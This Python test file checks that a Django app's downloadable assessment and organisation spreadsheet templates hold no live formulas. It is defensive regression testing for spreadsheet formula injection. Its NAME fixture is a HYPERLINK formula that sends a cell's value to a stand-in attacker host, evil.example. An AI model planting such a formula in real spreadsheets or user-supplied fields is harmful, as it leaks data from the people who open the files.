"""Downloaded spreadsheets hold no live formula, whatever people and competencies are called
(issue 13: a person named =HYPERLINK(...) became 48 formula cells in the template)."""

from __future__ import annotations

import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from rung.web.people.models import Person

from webtools import Org, client_for

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def formulas(xlsx: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return sum(z.read(n).decode().count("<f>") for n in z.namelist()
                   if n.startswith("xl/worksheets/"))


def test_the_assessment_template_writes_a_formula_like_name_as_text(org: Org):
    Person.objects.filter(pk=org.pat.pk).update(name=NAME)
    response = client_for(org.morgan).get(reverse("assessments:template",
                                                  kwargs={"slug": "pat"}))
    assert response.status_code == 200
    assert formulas(response.content) == 0
    sheet = load_workbook(io.BytesIO(response.content))["scores"]
    names = {row[1].value for row in sheet.iter_rows(min_row=2)}
    assert names == {NAME}
    assert all(row[1].quotePrefix for row in sheet.iter_rows(min_row=2))


def test_the_organisation_template_has_no_formula(org: Org):
    response = client_for(org.ada).get(reverse("imports:upload") + "?template=xlsx")
    assert response.status_code == 200
    assert formulas(response.content) == 0
